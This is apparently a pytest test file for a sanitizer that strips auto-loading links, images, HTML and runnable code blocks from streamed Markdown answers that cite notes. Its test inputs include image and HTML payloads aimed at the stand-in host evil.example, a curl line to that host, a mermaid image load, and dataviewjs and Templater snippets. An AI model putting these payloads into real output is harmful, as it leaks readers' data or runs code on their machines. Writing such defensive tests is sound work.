"""What readers of Markdown would load, run or link by themselves does not survive, however it is disguised and cut."""

from __future__ import annotations

import itertools

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.citations.answers import checked, dangers, in_pieces, passage, shown
from tests.citations.attacks import ALL

NOTE = passage(text="It cost 240 euros. See https://ok.example/a and [[known]], ![[plan.png]].")
ALLOWED = frozenset({"https://ok.example/a", "https://ok.example", "https://ok.example/"})
_PAIRS = 34
_PIECES = (
    *("[", "]", "(", ")", "!", "<", ">", "`", "``", "```", "~~~", "\\", "\n", "\n\n", " ", "   ", "    ", "\t", "|"),
    *("> ", "- ", "1. ", "2) ", "$", "%%", "*", "#", ":", "&#58;", "x", "[[", "]]", "[[Boiler]]", "[^1]", "[a]:", '"'),
    *("https://evil.example/?q", "//evil.example/x", "www.evil.example/a", "https://ok.example/a", ".com/x", "\r"),
    *("<img src=//evil.example>", "<b>", "![x](https://evil.example/a)", "![[plan.png]]", "“It cost 240 euros now”"),
)


@pytest.mark.parametrize("attack", ALL)
def test_nothing_that_is_not_allowed_survives(attack: str) -> None:
    for answer in (attack, f"Look: {attack} there", f"> {attack}", f"- a\n- {attack}\n\n{attack}"):
        assert dangers(shown(answer, NOTE), allowed=ALLOWED) == []
        assert dangers(shown(answer, NOTE, style="footnotes"), allowed=ALLOWED) == []


@pytest.mark.parametrize("attack", ALL)
def test_every_cut_of_an_answer_into_deltas_gives_the_same(attack: str) -> None:
    answer = f"{attack} [[Boiler]]"
    whole = shown(answer, NOTE)
    assert shown(answer, NOTE, step=1) == whole
    for at in range(1, len(answer)):
        assert in_pieces([answer[:at], answer[at:]], NOTE)[0] == whole, at


@pytest.mark.parametrize("attack", [attack for attack in ALL if len(attack) <= _PAIRS])
def test_every_pair_of_cuts_gives_the_same(attack: str) -> None:
    whole = shown(attack, NOTE)
    for first, second in itertools.combinations(range(1, len(attack)), 2):
        assert in_pieces([attack[:first], attack[first:second], attack[second:]], NOTE)[0] == whole, (first, second)


@settings(max_examples=150, deadline=None)
@given(st.lists(st.sampled_from(_PIECES), max_size=16).map("".join), st.integers(1, 5))
def test_no_mixture_of_signs_is_dangerous_or_depends_on_its_cuts(answer: str, step: int) -> None:
    whole, checker = checked(answer, NOTE)
    assert dangers(whole, allowed=ALLOWED) == []
    assert shown(answer, NOTE, step=step) == whole
    for annotation in checker.annotations:
        assert whole[annotation.start_index : annotation.end_index].startswith("[[")


@settings(max_examples=100, deadline=None)
@given(st.text(max_size=60), st.integers(1, 5))
def test_any_text_streams_as_it_is_shown_whole(answer: str, step: int) -> None:
    assert shown(answer, NOTE, step=step) == shown(answer, NOTE)


@pytest.mark.parametrize(
    ("answer", "expected"),
    [
        ("See https://ok.example/a.", "See https://ok.example/a."),
        ("See [it](https://ok.example/a).", "See [it](https://ok.example/a)."),
        ("See https://ok.example/ too", "See https://ok.example/ too"),
        ("**https://ok.example/a**", "**https://ok.example/a**"),
        ("見て https://ok.example/a。", "見て <https://ok.example/a>。"),
        ("See https://ok.example/a?q=240.", "See `https://ok.example/a?q=240`."),
        ("See [it](https://evil.example/?q=240).", "See it (`https://evil.example/?q=240`)."),
        ("On evil.example/?q=240, yes", "On evil`.example/?q=240`, yes"),
        ("Amazon.com, main.py, e.g. v1.2.3", "Amazon.com, main.py, e.g. v1.2.3"),
        ("240.euros.evil.com", "240`.euros.evil.com`"),
        ("R&amp;D &eacute; &#58;", "R&amp;D &eacute; &amp;#58;"),
        ("a<br>b <kbd>x</kbd>", "a<br>b <kbd>x</kbd>"),
        ("![[plan.png]]", "![[plan.png]]"),
    ],
)
@pytest.mark.parametrize("step", [None, 1])
def test_addresses_that_the_notes_hold_stay_and_others_are_shown_as_code(
    answer: str, expected: str, step: int | None
) -> None:
    assert shown(answer, NOTE, step=step) == expected


def test_a_line_that_some_readers_take_for_the_end_of_a_fence_is_not_left_so() -> None:
    assert shown("```\na\n```~\nb\n```\n", NOTE) == "```\na\n``` ~\nb\n```\n"


@pytest.mark.parametrize(
    "answer",
    [
        "$$\n```\n$$\n![x](https://evil.example/)\n```\n",
        "%%\n```\n%%\n![x](https://evil.example/)\n```\n",
        "$ ` $ ![x](https://evil.example/) `",
        "| ` b | ![x](https://evil.example/) ` |",
        "```\n```~\n```\n![x](https://evil.example/)\n",
        "[a [b] c](page.html) ![x](https://evil.example/)",
    ],
)
def test_what_only_some_readers_take_for_code_is_not_taken_for_it(answer: str) -> None:
    result = shown(answer, NOTE)
    assert "![x](" not in result
    assert "](" not in result


@pytest.mark.parametrize(
    "answer",
    [
        "```html\n<img src=https://evil.example/a>![x](https://evil.example)\n```\n",
        "1. Do:\n   ```sh\n   curl https://evil.example/ [[ -f x ]]\n   ```\n2. Next\n",
        "1. Do:\n\n    ```sh\n    curl https://evil.example/\n    ```\n",
        "- a\n  - b\n    ```\n    ![x](https://evil.example)\n    ```\n  - c\n",
        "- ```\n  <b>\n  ```\n",
        "> ```\n> <img src=x>\n> ```\n",
        "~~~\n```\n![x](y)\n~~~\n",
        "`<img src=x>` and ``a ` ![x](y)``",
        "Text\n```\n$a [x](y)\n\n```\n",
    ],
)
@pytest.mark.parametrize("step", [None, 1])
def test_in_code_nothing_is_changed(answer: str, step: int | None) -> None:
    assert shown(answer, NOTE, step=step) == answer


@pytest.mark.parametrize(
    ("answer", "expected"),
    [
        ("```dataviewjs\ndv.x\n```\n", "```text\ndv.x\n```\n"),
        ("~~~ {dataview}\nTABLE\n~~~\n", "~~~ text\nTABLE\n~~~\n"),
        ("```js-engine\nx\n```\n", "```text\nx\n```\n"),
        ("```meta-bind-button\nx\n```\n", "```text\nx\n```\n"),
        ("`$= dv.x`", "`\\$= dv.x`"),
        ("`= this.secret`", "`\\= this.secret`"),
        ("`=SUM(A1:A3)`", "`=SUM(A1:A3)`"),
        ("```mermaid\nA-->B<br>C\n```\n", "```mermaid\nA-->B<br>C\n```\n"),
        (
            '```mermaid\nA@{img: "https://evil.example/"}\nB\n```\n',
            "```mermaid\n%% left out: it could load something\nB\n```\n",
        ),
        ("<% tp.x %>", "&lt;% tp.x %>"),
    ],
)
@pytest.mark.parametrize("step", [None, 1])
def test_code_that_obsidian_would_run_is_shown_only(answer: str, expected: str, step: int | None) -> None:
    assert shown(answer, NOTE, step=step) == expected


@pytest.mark.parametrize("sign", ["[", '"', "![", "<", ">", "`", "> ", "](", "&", "~", "1. ", "https://", "a.", "\0"])
def test_a_flood_of_one_sign_is_let_through(sign: str) -> None:
    count = 20_000
    assert len(shown(sign * count, NOTE, credit=True)) >= count // 2


@pytest.mark.parametrize(
    ("text", "held"),
    [
        ("An ordinary sentence", ""),
        ("An ordinary sentence, with a (bracket", ""),
        ("It costs <3 ", ""),
        ("**bold** and `code` ", ""),
        ("- item", ""),
        ("See [[Boi", "[[Boi"),
        ("See ![x", "![x"),
        ('He said "it', '"it'),
        ("See htt", "htt"),
        ("`cod", "`cod"),
    ],
)
def test_only_what_cannot_be_decided_yet_is_held_back(text: str, held: str) -> None:
    _, checker = checked("", NOTE)
    assert checker.feed(text) == text.removesuffix(held)


def test_a_thought_is_made_harmless_and_cites_nothing() -> None:
    _, checker = checked("", NOTE)
    thought = checker.think("Hm ![x](https://evil.example/) [[Boiler", ends=False)
    thought += checker.think("#Repair]] [[Nowhere]]", ends=True)
    assert thought == "Hm (x) [[Boiler#Repair]] Nowhere"
    assert checker.annotations == []
    assert checker.sources == ()


@pytest.mark.parametrize("pieces", [[".m", "dwww", ".evil.example/x"], [".mdhttps", ":", "//evil.example/x"]])
def test_an_address_right_behind_what_is_not_shown_is_found_however_it_is_cut(pieces: list[str]) -> None:
    cut = in_pieces(["[[Boiler#Repair]]", *pieces], passage())[0]
    assert cut == shown(f"[[Boiler#Repair]]{''.join(pieces)}", passage())
    assert cut.endswith("evil.example/x`")
